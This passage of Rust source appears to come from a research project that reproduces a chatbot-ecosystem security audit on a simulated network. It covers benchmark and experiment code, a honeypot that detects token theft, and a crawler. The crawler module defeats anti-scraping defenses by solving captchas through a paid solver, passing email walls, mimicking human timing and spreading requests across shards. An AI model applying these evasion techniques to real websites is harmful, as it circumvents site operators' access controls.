    out.insert("incremental_reaudit".into(), inc.into());
    let mut mixed = serde_json::Map::new();
    mixed.insert("tenants".into(), TENANTS.into());
    mixed.insert(
        "platforms".into(),
        serde_json::Value::Array(vec!["discord".into(), "telegram".into()]),
    );
    mixed.insert("byte_identical".into(), true.into());
    mixed.insert("runs".into(), serde_json::Value::Array(mixed_runs));
    mixed.insert("platform_breakdown".into(), breakdown_json);
    out.insert("mixed_platform_fleet".into(), mixed.into());
    let mut adv = serde_json::Map::new();
    adv.insert("scale".into(), ADV_SCALE.into());
    adv.insert("seed".into(), args.seed.into());
    let mut adv_plan = serde_json::Map::new();
    adv_plan.insert("rounds".into(), plan_config.rounds.into());
    adv_plan.insert("round_ms".into(), plan_config.round_ms.into());
    adv_plan.insert("flood_burst".into(), plan_config.flood_burst.into());
    adv_plan.insert("steady_tenants".into(), plan_config.steady_tenants.into());
    adv_plan.insert(
        "deadline_slack_ms".into(),
        plan_config.deadline_slack_ms.into(),
    );
    adv_plan.insert("jobs_submitted".into(), plan.len().into());
    adv.insert("plan".into(), adv_plan.into());
    adv.insert("quantum".into(), ADV_QUANTUM.into());
    adv.insert("batch_slice_frames".into(), ADV_SLICE_FRAMES.into());
    adv.insert("tick_ms".into(), ADV_TICK_MS.into());
    adv.insert("virtual_horizon_ms".into(), adv_serial.horizon_ms.into());
    adv.insert("completed".into(), adv_serial.completed.into());
    adv.insert("expired_typed_outcomes".into(), adv_serial.expired.into());
    adv.insert(
        "sched_expired_counter".into(),
        adv_serial.expired_counter.into(),
    );
    adv.insert("preemptions_sched_parked".into(), adv_serial.parked.into());
    let mut drr = serde_json::Map::new();
    drr.insert("bound_quantum_x_weight".into(), drr_bound.into());
    drr.insert("max_service_gap".into(), adv_serial.max_gap.into());
    drr.insert("within_bound".into(), true.into());
    adv.insert("drr".into(), drr.into());
    let mut lat = serde_json::Map::new();
    lat.insert(
        "interactive_max_wait_virtual_ms".into(),
        adv_serial
            .interactive_waits
            .iter()
            .max()
            .copied()
            .unwrap_or(0)
            .into(),
    );
    lat.insert(
        "interactive_mean_wait_virtual_ms".into(),
        serde_json::to_value(mean(&adv_serial.interactive_waits)).expect("serializable"),
    );
    lat.insert(
        "flood_batch_mean_wait_virtual_ms".into(),
        serde_json::to_value(mean(&adv_serial.flood_waits)).expect("serializable"),
    );
    adv.insert("preemption_latency".into(), lat.into());
    adv.insert("byte_identical_workers_1_vs_4".into(), true.into());
    adv.insert(
        "runs".into(),
        serde_json::Value::Array(
            [(1usize, adv_serial.wall_ms), (4, adv_quad.wall_ms)]
                .iter()
                .map(|(workers, wall_ms)| {
                    let mut run = serde_json::Map::new();
                    run.insert("workers".into(), (*workers).into());
                    run.insert(
                        "wall_ms".into(),
                        serde_json::to_value(wall_ms).expect("serializable"),
                    );
                    run.into()
                })
                .collect(),
        ),
    );
    out.insert("adversarial_load".into(), adv.into());
    std::fs::write(
        path,
        serde_json::to_string_pretty(&out).expect("serializable"),
    )
    .expect("write sched bench json");
    eprintln!("wrote {path}");
}

/// Measure the longitudinal oplog: what a materialized trend query costs
/// versus replaying the fleet's audits, how many bytes generational pack
/// compaction reclaims, and that resumes stay byte-identical across a
/// compaction.
fn oplog_bench(args: &Args, path: &str) {
    use chatbot_audit::{Audit, FleetDaemon, FleetDaemonConfig, PlatformKind};
    use netsim::VirtualClock;
    use sched::JobSpec;
    use std::sync::Arc;

    const EPOCHS: u32 = 5;
    const KEEP_LAST: usize = 2;
    let tenants: [(&str, PlatformKind); 3] = [
        ("acme", PlatformKind::Discord),
        ("globex", PlatformKind::Discord),
        ("initech", PlatformKind::Telegram),
    ];
    eprintln!(
        "longitudinal oplog bench: {} tenants × {EPOCHS} epochs × {} listings …",
        tenants.len(),
        args.scale
    );
    let job = |seed: u64, kind: PlatformKind, epoch: u32| {
        Audit::builder()
            .scale(args.scale)
            .seed(seed)
            .platform(kind)
            .honeypot_sample(args.honeypot_sample)
            .site_defenses(false)
            .drift(synth::DriftConfig::default())
            .epoch(epoch)
            .into_job()
            .expect("valid oplog bench job")
    };
    let run_fleet = || -> FleetDaemon {
        let daemon = FleetDaemon::with_obs(
            FleetDaemonConfig {
                workers: args.workers,
                ..FleetDaemonConfig::default()
            },
            Arc::new(store::MemBackend::new()),
            VirtualClock::new(),
            obs::Obs::disabled(),
        );
        let mut horizon = 0;
        for epoch in 0..EPOCHS {
            for (i, (tenant, kind)) in tenants.iter().enumerate() {
                daemon
                    .submit(
                        JobSpec::new(*tenant),
                        job(args.seed + i as u64, *kind, epoch),
                    )
                    .expect("queue has room");
            }
            horizon += 1_000_000;
            daemon.run_until(horizon);
        }
        assert_eq!(daemon.queued(), 0, "oplog bench fleet must drain");
        daemon
    };
    let trend_dump = |daemon: &FleetDaemon| -> String {
        let mut out = String::new();
        for (tenant, _) in tenants {
            out.push_str(&daemon.trends(tenant).expect("chain").canonical_json());
            out.push('\n');
        }
        out.push_str(
            &serde_json::to_string(&daemon.fleet_trends().expect("fleet")).expect("serializable"),
        );
        out
    };

    // The replay baseline: without the oplog, answering "how did the
    // fleet drift?" means re-running every audit. With it, the same
    // answers come from the persisted chains.
    let t0 = std::time::Instant::now();
    let daemon = run_fleet();
    let replay_ms = t0.elapsed().as_secs_f64() * 1e3;
    let t0 = std::time::Instant::now();
    let views = trend_dump(&daemon);
    let query_ms = t0.elapsed().as_secs_f64() * 1e3;
    let speedup = replay_ms / query_ms;
    println!(
        "trend queries: materialized views {query_ms:.2} ms vs full replay \
         {replay_ms:.1} ms ({speedup:.0}x) over {} chain records",
        tenants.len() * EPOCHS as usize,
    );

    // Generational compaction: drop every artifact generation not
    // referenced by the last KEEP_LAST epochs of each tenant.
    let mut per_tenant = Vec::new();
    for (tenant, _) in tenants {
        let outcome = daemon.compact_tenant(tenant, KEEP_LAST).expect("compacts");
        assert!(
            outcome.reclaimed_bytes() > 0,
            "{tenant}: dropping {} of {EPOCHS} generations must reclaim bytes",
            EPOCHS as usize - KEEP_LAST,
        );
        let mut row = serde_json::Map::new();
        row.insert("tenant".into(), tenant.into());
        row.insert("reclaimed_bytes".into(), outcome.reclaimed_bytes().into());
        row.insert("dropped_blobs".into(), outcome.dropped_blobs.into());
        row.insert("live_blobs".into(), outcome.live_blobs.into());
        row.insert("pack_bytes_before".into(), outcome.pack_bytes_before.into());
        row.insert("pack_bytes_after".into(), outcome.pack_bytes_after.into());
        per_tenant.push(row.into());
    }
    let reclaimed = daemon
        .obs()
        .counter_value("store.compaction.reclaimed_bytes");
    assert!(reclaimed > 0, "compaction counter must record reclamation");
    assert_eq!(
        trend_dump(&daemon),
        views,
        "compaction must not change a trend answer"
    );
    println!(
        "compaction (keep last {KEEP_LAST} epochs): {reclaimed} bytes reclaimed \
         across {} tenants; trend views byte-identical",
        tenants.len(),
    );

    // Resume across compaction: epoch {EPOCHS} lands byte-identically on
    // the compacted fleet and on a never-compacted control.
    let control = run_fleet();
    let mut dumps = Vec::new();
    for d in [&daemon, &control] {
        for (i, (tenant, kind)) in tenants.iter().enumerate() {
            d.submit(
                JobSpec::new(*tenant),
                job(args.seed + i as u64, *kind, EPOCHS),
            )
            .expect("queue has room");
        }
        d.run_until(10_000_000);
        dumps.push(trend_dump(d));
    }
    assert_eq!(
        dumps[0], dumps[1],
        "post-compaction epoch {EPOCHS} diverged from the uncompacted control"
    );
    println!(
        "resume across compaction: epoch {EPOCHS} trend views byte-identical \
         to the uncompacted control"
    );

    let mut out = serde_json::Map::new();
    out.insert("scale".into(), args.scale.into());
    out.insert("seed".into(), args.seed.into());
    out.insert("honeypot_sample".into(), args.honeypot_sample.into());
    out.insert("workers".into(), args.workers.into());
    out.insert("tenants".into(), tenants.len().into());
    out.insert("epochs".into(), EPOCHS.into());
    let mut trend = serde_json::Map::new();
    trend.insert(
        "replay_all_audits_ms".into(),
        serde_json::to_value(replay_ms).expect("serializable"),
    );
    trend.insert(
        "materialized_query_ms".into(),
        serde_json::to_value(query_ms).expect("serializable"),
    );
    trend.insert(
        "speedup_vs_replay".into(),
        serde_json::to_value(speedup).expect("serializable"),
    );
    trend.insert(
        "chain_records".into(),
        (tenants.len() * EPOCHS as usize).into(),
    );
    out.insert("trend_query".into(), trend.into());
    let mut compaction = serde_json::Map::new();
    compaction.insert("keep_last_epochs".into(), KEEP_LAST.into());
    compaction.insert("reclaimed_bytes".into(), reclaimed.into());
    compaction.insert("per_tenant".into(), serde_json::Value::Array(per_tenant));
    compaction.insert("trend_views_byte_identical".into(), true.into());
    out.insert("store.compaction".into(), compaction.into());
    let mut resume = serde_json::Map::new();
    resume.insert("next_epoch".into(), EPOCHS.into());
    resume.insert("byte_identical_vs_uncompacted".into(), true.into());
    out.insert("resume_across_compaction".into(), resume.into());
    std::fs::write(
        path,
        serde_json::to_string_pretty(&out).expect("serializable"),
    )
    .expect("write oplog bench json");
    eprintln!("wrote {path}");
}

fn main() {
    let args = parse_args();
    let scale_factor = args.scale as f64 / 20_915.0;

    eprintln!(
        "building ecosystem: {} listings (seed {}) …",
        args.scale, args.seed
    );
    let eco = build_ecosystem(&EcosystemConfig {
        num_bots: args.scale,
        seed: args.seed,
        ..EcosystemConfig::default()
    });

    if args.enforced {
        eprintln!("runtime policy: ENFORCED (Slack/Teams model — §6 extension)");
        eco.platform
            .set_runtime_policy(discord_sim::RuntimePolicy::Enforced);
    }
    eprintln!(
        "running data collection + traceability + code analysis ({} worker{}) …",
        args.workers,
        if args.workers == 1 { "" } else { "s" }
    );
    let pipeline = AuditPipeline::new(audit_config(args.honeypot_sample, args.workers));
    let (bots, stats, stored_campaign) = if let Some(dir) = &args.store_dir {
        if args.enforced {
            eprintln!(
                "note: --enforced is not part of the store fingerprint; \
                 use a dedicated --store-dir for enforced runs"
            );
        }
        let mut store = StoreConfig::on_disk(dir).expect("open --store-dir");
        store.resume = args.resume;
        store.kill_after_frames = args.kill_after_frames;
        match pipeline.run_resumable(&eco, &store, args.seed) {
            Ok(ResumableOutcome {
                report,
                store_stats,
                ..
            }) => {
                eprintln!(
                    "store: {} frames replayed, {} written; pack {} hits / {} misses",
                    store_stats.frames_replayed,
                    store_stats.frames_written,
                    store_stats.artifact_hits,
                    store_stats.artifact_misses,
                );
                (report.bots, report.crawl_stats, report.honeypot)
            }
            Err(ResumeError::Interrupted { frames_written }) => {
                eprintln!(
                    "interrupted after {frames_written} durable journal frames — \
                     rerun with --resume to continue from here"
                );
                std::process::exit(0);
            }
            Err(other) => {
                eprintln!("audit store failure: {other}");
                std::process::exit(1);
            }
        }
    } else {
        if args.resume || args.kill_after_frames.is_some() {
            eprintln!("--resume / --kill-after-frames require --store-dir");
            std::process::exit(2);
        }
        let (bots, stats) = pipeline.run_static_stages(&eco.net);
        (bots, stats, None)
    };

    let mut json = serde_json::Map::new();
    json.insert("scale".into(), args.scale.into());
    json.insert("seed".into(), args.seed.into());

    println!("== Crawl ==");
    println!(
        "pages {} | bots {} | captchas {} (${:.2}) | email verifications {} | virtual time {}",
        stats.pages,
        stats.bots,
        stats.captchas_solved,
        stats.captcha_spend_dollars,
        stats.email_verifications,
        stats.duration
    );
    println!("{}", caches_line(pipeline.obs()));

    // ---- Figure 3 + in-text permission numbers -------------------------
    if want(&args, "fig3") {
        let rows = figure3_distribution(&bots, 25);
        println!("\n{}", render_figure3(&rows));
        let valid = bots
            .iter()
            .filter(|b| b.crawled.invite_status.is_valid())
            .count();
        let pct = |name: &str| {
            rows.iter()
                .find(|r| r.permission == name)
                .map(|r| r.percent)
                .unwrap_or(0.0)
        };
        let comparisons = vec![
            Comparison::new("bots crawled", 20_915.0 * scale_factor, bots.len() as f64),
            Comparison::new(
                "valid invites %",
                74.0,
                valid as f64 / bots.len().max(1) as f64 * 100.0,
            ),
            Comparison::new("send messages %", 59.18, pct("send messages")),
            Comparison::new("administrator %", 54.86, pct("administrator")),
        ];
        println!(
            "{}",
            render_comparisons("Figure 3 / §4.2 anchors (paper vs measured)", &comparisons)
        );
        json.insert(
            "figure3".into(),
            serde_json::to_value(&rows).expect("serializable"),
        );

        // Least-privilege extension (§5: "minimal required permissions").
        let gaps = chatbot_audit::privilege_gaps(&bots);
        let lp = chatbot_audit::least_privilege_summary(&gaps);
        println!(
            "Least-privilege gap: {}/{} bots over-privileged vs their advertised commands \
             (mean {:.1} excess permission bits; all fixable by configuration)\n",
            lp.over_privileged, lp.analyzed, lp.mean_excess_bits
        );
        json.insert(
            "least_privilege".into(),
            serde_json::to_value(&lp).expect("serializable"),
        );

        // Exposure: guild counts behind each risk flag (§4.2's reach framing).
        println!("Guild exposure by risk flag:");
        for (flag, guilds) in chatbot_audit::exposure_by_flag(&bots) {
            println!("  {flag:?}: {guilds} guilds");
        }
        println!();
    }

    // ---- Table 1 ---------------------------------------------------------
    if want(&args, "table1") {
        let rows = table1_histogram(&bots);
        println!("\n{}", render_table1(&rows));
        let one_bot_pct = rows
            .iter()
            .find(|r| r.bots_per_developer == 1)
            .map(|r| r.percent)
            .unwrap_or(0.0);
        let comparisons = vec![Comparison::new("devs with 1 bot %", 89.08, one_bot_pct)];
        println!(
            "{}",
            render_comparisons("Table 1 anchors (paper vs measured)", &comparisons)
        );
        json.insert(
            "table1".into(),
            serde_json::to_value(&rows).expect("serializable"),
        );
    }

    // ---- Table 2 ---------------------------------------------------------
    if want(&args, "table2") {
        let t2 = table2_traceability(&bots);
        println!("\n{}", render_table2(&t2));
        let comparisons = vec![
            Comparison::new("website link %", 37.27, t2.pct(t2.website_link)),
            Comparison::new("policy link %", 4.35, t2.pct(t2.policy_link)),
            Comparison::new("valid policy %", 4.33, t2.pct(t2.valid_policy)),
            Comparison::new("broken traceability %", 95.67, t2.pct(t2.broken)),
            Comparison::new("complete traceability %", 0.0, t2.pct(t2.complete)),
        ];
        println!(
            "{}",
            render_comparisons("Table 2 (paper vs measured)", &comparisons)
        );
        json.insert(
            "table2".into(),
            serde_json::to_value(&t2).expect("serializable"),
        );
    }

    // ---- Table 3 / code analysis ----------------------------------------
    if want(&args, "table3") {
        let t3 = table3_code_analysis(&bots);
        println!("\n{}", render_table3(&t3));
        let active = bots
            .iter()
            .filter(|b| b.crawled.invite_status.is_valid())
            .count()
            .max(1);
        let comparisons = vec![
            Comparison::new(
                "github links % of active",
                23.86,
                t3.with_github_link as f64 / active as f64 * 100.0,
            ),
            Comparison::new(
                "valid repos % of links",
                60.46,
                t3.valid_repos as f64 / t3.with_github_link.max(1) as f64 * 100.0,
            ),
            Comparison::new(
                "source available % of active",
                14.39,
                t3.with_source as f64 / active as f64 * 100.0,
            ),
            Comparison::new("JS repos checking %", 72.97, t3.js_checking_pct()),
            Comparison::new("Python repos checking %", 2.65, t3.py_checking_pct()),
        ];
        println!(
            "{}",
            render_comparisons("Table 3 / code analysis (paper vs measured)", &comparisons)
        );
        json.insert(
            "table3".into(),
            serde_json::to_value(&t3).expect("serializable"),
        );
    }

    // ---- Honeypot ---------------------------------------------------------
    let mut campaign_result = None;
    if want(&args, "honeypot") {
        eprintln!(
            "running honeypot campaign over the {} most-voted bots …",
            args.honeypot_sample
        );
        let campaign = stored_campaign.unwrap_or_else(|| pipeline.run_honeypot(&eco));
        println!("\n== Honeypot (§4.2) ==");
        println!(
            "guilds {} | bots tested {} | tokens planted {} | messages {} | captchas {} (${:.2}) | manual verifications {}",
            campaign.guilds_created,
            campaign.bots_tested,
            campaign.tokens_planted,
            campaign.messages_posted,
            campaign.captchas_solved,
            campaign.captcha_spend_dollars,
            campaign.manual_verifications,
        );
        for det in &campaign.detections {
            println!(
                "DETECTION: {} — tokens {:?} via {:?}; follow-up messages: {:?}",
                det.bot_name, det.token_kinds, det.requesters, det.followup_messages
            );
        }
        let comparisons = vec![
            Comparison::new(
                "bots tested",
                500.0 * (args.honeypot_sample as f64 / 500.0),
                campaign.bots_tested as f64,
            ),
            Comparison::new("bots detected", 1.0, campaign.detections.len() as f64),
        ];
        println!(
            "{}",
            render_comparisons("Honeypot (paper vs measured)", &comparisons)
        );

        // Validation against ground truth — beyond the paper.
        let validation = validate_against_truth(&bots, &eco.truth, Some(&campaign));
        println!("\n== Methodology validation (vs planted ground truth) ==");
        println!(
            "invite validity     : precision {:.3} recall {:.3} (n={})",
            validation.invite_validity.precision(),
            validation.invite_validity.recall(),
            validation.invite_validity.total()
        );
        println!(
            "policy discovery    : precision {:.3} recall {:.3}",
            validation.policy_discovery.precision(),
            validation.policy_discovery.recall()
        );
        println!(
            "traceability agree  : {:.3}",
            validation.traceability_agreement
        );
        println!(
            "repo resolution     : precision {:.3} recall {:.3}",
            validation.repo_resolution.precision(),
            validation.repo_resolution.recall()
        );
        println!(
            "check detection     : precision {:.3} recall {:.3}",
            validation.check_detection.precision(),
            validation.check_detection.recall()
        );
        println!(
            "honeypot detection  : precision {:.3} recall {:.3}",
            validation.honeypot_detection.precision(),
            validation.honeypot_detection.recall()
        );
        json.insert(
            "validation".into(),
            serde_json::to_value(&validation).expect("serializable"),
        );
        campaign_result = Some(campaign);
    }

    if let Some(path) = &args.markdown {
        let detections = campaign_result
            .as_ref()
            .map(|c| c.detections.clone())
            .unwrap_or_default();
        let md = chatbot_audit::render_markdown_dossier(&bots, &detections);
        std::fs::write(path, md).expect("write markdown dossier");
        eprintln!("wrote {path}");
    }

    // The full registry view, captured after every stage has reported.
    json.insert("metrics".into(), registry_json(pipeline.obs()));

    if let Some(path) = &args.json {
        std::fs::write(
            path,
            serde_json::to_string_pretty(&json).expect("serializable"),
        )
        .expect("write json output");
        eprintln!("wrote {path}");
    }

    if let Some(path) = &args.bench_json {
        parallel_bench(&args, path);
    }

    if let Some(path) = &args.store_bench_json {
        store_bench(&args, path);
    }

    if let Some(path) = &args.obs_bench_json {
        obs_bench(&args, path);
    }

    if let Some(path) = &args.sched_bench_json {
        sched_bench(&args, path);
    }

    if let Some(path) = &args.oplog_bench_json {
        oplog_bench(&args, path);
    }
}
