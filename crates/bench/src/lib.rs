//! # bench — experiment harness shared by the Criterion benches and the
//! `experiments` binary
//!
//! Every table and figure in §4.2 has a regeneration path here. The
//! `experiments` binary prints paper-vs-measured rows; the Criterion
//! benches time the analysis kernels on the same worlds.

#![forbid(unsafe_code)]

use chatbot_audit::{AuditConfig, AuditPipeline, AuditedBot};
use crawler::crawl::CrawlStats;
use honeypot::campaign::CampaignReport;
use synth::{build_ecosystem, Ecosystem, EcosystemConfig};

/// A built world plus the static-stage output, shared by several benches.
pub struct PreparedWorld {
    /// The ecosystem.
    pub eco: Ecosystem,
    /// The pipeline used.
    pub pipeline: AuditPipeline,
    /// Static-stage output.
    pub bots: Vec<AuditedBot>,
    /// Crawl stats.
    pub stats: CrawlStats,
}

/// Build a world of `num_bots` and run the static stages.
pub fn prepare_world(num_bots: usize, seed: u64) -> PreparedWorld {
    prepare_world_workers(num_bots, seed, 1)
}

/// [`prepare_world`] with every `workers` knob (crawl shards, analysis
/// pool, honeypot campaigns) set to `workers`.
pub fn prepare_world_workers(num_bots: usize, seed: u64, workers: usize) -> PreparedWorld {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(num_bots, seed));
    let mut config = AuditConfig::default();
    config.workers = workers;
    config.crawl.workers = workers;
    config.honeypot.workers = workers;
    let pipeline = AuditPipeline::new(config);
    let (bots, stats) = pipeline.run_static_stages(&eco.net);
    PreparedWorld {
        eco,
        pipeline,
        bots,
        stats,
    }
}

/// Run the honeypot stage over the top `sample` bots of a prepared world.
pub fn run_honeypot(world: &PreparedWorld, sample: usize) -> CampaignReport {
    let pipeline = AuditPipeline::new(AuditConfig {
        honeypot_sample: sample,
        ..AuditConfig::default()
    });
    pipeline.run_honeypot(&world.eco)
}

/// A paper-vs-measured comparison row.
#[derive(Debug, Clone, serde::Serialize)]
pub struct Comparison {
    /// What is being compared.
    pub metric: String,
    /// The paper's value.
    pub paper: f64,
    /// Our measured value.
    pub measured: f64,
}

impl Comparison {
    /// Build a row.
    pub fn new(metric: &str, paper: f64, measured: f64) -> Comparison {
        Comparison {
            metric: metric.to_string(),
            paper,
            measured,
        }
    }

    /// Absolute deviation.
    pub fn deviation(&self) -> f64 {
        (self.paper - self.measured).abs()
    }
}

/// Render comparison rows as an aligned text table.
pub fn render_comparisons(title: &str, rows: &[Comparison]) -> String {
    let mut out = format!("{title}\n");
    let width = rows
        .iter()
        .map(|r| r.metric.len())
        .max()
        .unwrap_or(8)
        .max(8);
    out.push_str(&format!(
        "{:width$} | {:>8} | {:>8} | {:>6}\n",
        "metric",
        "paper",
        "measured",
        "|Δ|",
        width = width
    ));
    for r in rows {
        out.push_str(&format!(
            "{:width$} | {:8.2} | {:8.2} | {:6.2}\n",
            r.metric,
            r.paper,
            r.measured,
            r.deviation(),
            width = width
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prepare_world_runs_end_to_end() {
        let w = prepare_world(80, 3);
        assert_eq!(w.bots.len(), 80);
        assert!(w.stats.pages > 0);
    }

    #[test]
    fn comparison_rendering() {
        let rows = vec![
            Comparison::new("valid %", 74.0, 73.5),
            Comparison::new("admin %", 54.86, 54.1),
        ];
        let table = render_comparisons("Fig 3 anchors", &rows);
        assert!(table.contains("Fig 3 anchors"));
        assert!(table.contains("valid %"));
        assert!((rows[0].deviation() - 0.5).abs() < 1e-9);
    }
}
