//! The scraping session: a client that survives the anti-scraping gauntlet.
//!
//! Implements the paper's four countermeasures (§3): rate limiting (the
//! underlying [`HttpClient`] is politeness-limited), captcha solving via
//! 2Captcha, human-behaviour mimicry (jittered think-time between fetches),
//! and exception handling (`NoSuchElement` → structure-variant fallbacks in
//! [`crate::extract`]; timeouts → bounded retries in the client).

use crate::solver::CaptchaSolverClient;
use htmlsim::{parse_document, Document, Locator};
use netsim::client::{ClientConfig, HttpClient};
use netsim::clock::SimDuration;
use netsim::http::{Request, Response, Status, Url};
use netsim::{NetError, Network};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// A scraping session against one site.
pub struct ScrapeSession {
    http: HttpClient,
    solver: CaptchaSolverClient,
    net: Network,
    rng: StdRng,
    /// Jitter range for human-behaviour mimicry (min..=max ms of think time
    /// before each fetch). Zeroed for the impolite ablation.
    pub think_time_ms: (u64, u64),
    /// Captchas encountered and solved.
    pub captchas_solved: u64,
    /// Email verifications performed.
    pub email_verifications: u64,
    /// Pages fetched successfully.
    pub pages_fetched: u64,
}

impl ScrapeSession {
    /// A polite session with the paper's etiquette.
    pub fn new(net: Network, seed: u64) -> ScrapeSession {
        Self::with_agent(
            net,
            seed,
            "measurement-crawler/1.0".to_string(),
            (400, 2500),
            false,
        )
    }

    /// An impolite session: no think time, no client rate limiting, single
    /// attempts. The crawler-politeness ablation uses this.
    pub fn impolite(net: Network, seed: u64) -> ScrapeSession {
        Self::with_agent(net, seed, "impolite-crawler/1.0".to_string(), (0, 0), true)
    }

    /// The session for shard `worker` of a parallel crawl. Worker 0 keeps
    /// the canonical user-agent; the rest identify themselves as distinct
    /// crawl machines so server-side per-requester defenses (rate buckets,
    /// captcha counters, email verification) apply per shard, exactly as
    /// they would to a distributed crawl fleet.
    pub fn for_worker(net: Network, seed: u64, worker: usize, polite: bool) -> ScrapeSession {
        let (base, think) = if polite {
            ("measurement-crawler/1.0", (400, 2500))
        } else {
            ("impolite-crawler/1.0", (0, 0))
        };
        let agent = if worker == 0 {
            base.to_string()
        } else {
            format!("{base} (shard {worker})")
        };
        Self::with_agent(net, seed, agent, think, !polite)
    }

    fn with_agent(
        net: Network,
        seed: u64,
        agent: String,
        think_time_ms: (u64, u64),
        impolite: bool,
    ) -> ScrapeSession {
        let config = if impolite {
            ClientConfig::impolite(&agent)
        } else {
            ClientConfig::crawler(&agent)
        };
        let http = HttpClient::new(net.clone(), config);
        ScrapeSession {
            solver: CaptchaSolverClient::new(net.clone()),
            http,
            net,
            rng: StdRng::seed_from_u64(seed),
            think_time_ms,
            captchas_solved: 0,
            email_verifications: 0,
            pages_fetched: 0,
        }
    }

    /// Total 2Captcha spend so far, in dollars.
    pub fn captcha_spend_dollars(&self) -> f64 {
        self.solver.spend_dollars()
    }

    /// Client-level behaviour statistics.
    pub fn client_stats(&self) -> &netsim::client::ClientStats {
        self.http.stats()
    }

    fn think(&mut self) {
        let (lo, hi) = self.think_time_ms;
        if hi == 0 {
            return;
        }
        let ms = if lo >= hi {
            lo
        } else {
            self.rng.gen_range(lo..=hi)
        };
        self.net.clock().sleep(SimDuration::from_millis(ms));
    }

    /// Fetch a URL, solving captchas and the email wall as they appear.
    /// Returns the final successful response, or the last error.
    pub fn fetch(&mut self, url: Url) -> Result<Response, NetError> {
        self.fetch_inner(url, None)
    }

    /// Conditional fetch: attach an `if-none-match` validator so an
    /// unchanged page costs one cheap 304 round-trip instead of a body.
    /// The anti-scraping gauntlet still applies — a cached copy does not
    /// excuse the crawler from captchas or the email wall. A
    /// [`Status::NotModified`] answer comes back through the normal
    /// return path for the caller to act on.
    pub fn fetch_conditional(&mut self, url: Url, etag: &str) -> Result<Response, NetError> {
        self.fetch_inner(url, Some(etag))
    }

    fn fetch_inner(&mut self, url: Url, etag: Option<&str>) -> Result<Response, NetError> {
        self.think();
        let mut current = url.clone();
        for _round in 0..4 {
            let mut req = Request::get(current.clone());
            if let Some(tag) = etag {
                req = req.with_header("if-none-match", tag);
            }
            let resp = self.http.fetch(req)?;
            match resp.status {
                Status::Forbidden => {
                    // Captcha interstitial: extract, solve, redeem, retry.
                    let Some(challenge) = Self::parse_captcha(&resp) else {
                        return Ok(resp);
                    };
                    let (id, question) = challenge;
                    let answer = self.solver.solve(&question)?;
                    let redeem = self.http.post(
                        Url::https(&current.host, "/captcha/redeem"),
                        format!("id={id}&answer={answer}"),
                    )?;
                    if redeem.status != Status::Ok {
                        return Err(NetError::Malformed {
                            reason: "captcha redeem rejected".into(),
                        });
                    }
                    self.captchas_solved += 1;
                    current = url.clone().with_query("captcha_pass", &redeem.text());
                }
                Status::Unauthorized => {
                    // Email wall: verify once, then retry.
                    self.http.post(
                        Url::https(&current.host, "/verify-email"),
                        "email=crawler@lab.example",
                    )?;
                    self.email_verifications += 1;
                }
                _ => {
                    self.pages_fetched += 1;
                    return Ok(resp);
                }
            }
        }
        Err(NetError::Malformed {
            reason: format!("defense loop did not converge for {url}"),
        })
    }

    /// Fetch and parse a page.
    pub fn fetch_document(&mut self, url: Url) -> Result<Document, NetError> {
        let resp = self.fetch(url)?;
        if !resp.status.is_success() {
            return Err(NetError::Malformed {
                reason: format!("status {}", resp.status),
            });
        }
        parse_document(&resp.text()).map_err(|e| NetError::Malformed {
            reason: e.to_string(),
        })
    }

    fn parse_captcha(resp: &Response) -> Option<(String, String)> {
        let doc = parse_document(&resp.text()).ok()?;
        let captcha = Locator::id("captcha").find(&doc).ok()?;
        let id = captcha.attr("data-challenge-id")?.to_string();
        let question = Locator::class("question").find(&doc).ok()?.text_content();
        Some((id, question))
    }

    /// Raw access to the underlying HTTP client (for link validation that
    /// must not trigger defense handling).
    pub fn http(&mut self) -> &mut HttpClient {
        &mut self.http
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::solver::CaptchaSolverService;
    use botlist::{BotListSite, BotListing, SiteConfig, LIST_HOST};

    fn listings(n: u64) -> Vec<BotListing> {
        (0..n)
            .map(|i| BotListing::minimal(i + 1, &format!("B{i}"), "https://x.sim/", 100 - i))
            .collect()
    }

    #[test]
    fn session_survives_captcha_wall() {
        let net = Network::new(17);
        CaptchaSolverService::mount(&net);
        let site = BotListSite::new(
            listings(10),
            SiteConfig {
                captcha_every: Some(2),
                rate_limit: None,
                email_wall_after_page: None,
                page_size: 5,
                ..SiteConfig::open()
            },
        );
        site.mount(&net);
        let mut session = ScrapeSession::new(net, 1);
        for _ in 0..6 {
            let resp = session.fetch(Url::https(LIST_HOST, "/list")).unwrap();
            assert!(resp.status.is_success());
        }
        assert!(
            session.captchas_solved >= 2,
            "solved {}",
            session.captchas_solved
        );
        assert!(session.captcha_spend_dollars() > 0.0);
    }

    #[test]
    fn session_passes_email_wall_once() {
        let net = Network::new(17);
        CaptchaSolverService::mount(&net);
        let site = BotListSite::new(
            listings(100),
            SiteConfig {
                captcha_every: None,
                rate_limit: None,
                email_wall_after_page: Some(0),
                page_size: 10,
                ..SiteConfig::open()
            },
        );
        site.mount(&net);
        let mut session = ScrapeSession::new(net, 1);
        for page in 1..4 {
            let resp = session
                .fetch(Url::https(LIST_HOST, "/list").with_query("page", &page.to_string()))
                .unwrap();
            assert!(resp.status.is_success(), "page {page}");
        }
        assert_eq!(session.email_verifications, 1, "verification persists");
    }

    #[test]
    fn polite_session_spends_think_time() {
        let net = Network::new(17);
        let site = BotListSite::new(listings(5), SiteConfig::open());
        site.mount(&net);
        let clock = net.clock();
        let mut session = ScrapeSession::new(net, 1);
        for _ in 0..3 {
            session.fetch(Url::https(LIST_HOST, "/list")).unwrap();
        }
        assert!(clock.now().as_millis() >= 3 * 400, "think time elapsed");
    }

    #[test]
    fn impolite_session_gets_rate_limited() {
        let net = Network::new(17);
        let site = BotListSite::new(
            listings(5),
            SiteConfig {
                rate_limit: Some((2, 0.5)),
                captcha_every: None,
                email_wall_after_page: None,
                page_size: 5,
                ..SiteConfig::open()
            },
        );
        site.mount(&net);
        let mut session = ScrapeSession::impolite(net, 1);
        let mut limited = 0;
        for _ in 0..6 {
            if session.fetch(Url::https(LIST_HOST, "/list")).is_err() {
                limited += 1;
            }
        }
        assert!(limited > 0, "impolite crawling hit the wall");
    }

    #[test]
    fn fetch_document_parses() {
        let net = Network::new(17);
        let site = BotListSite::new(listings(5), SiteConfig::open());
        site.mount(&net);
        let mut session = ScrapeSession::new(net, 1);
        let doc = session
            .fetch_document(Url::https(LIST_HOST, "/list"))
            .unwrap();
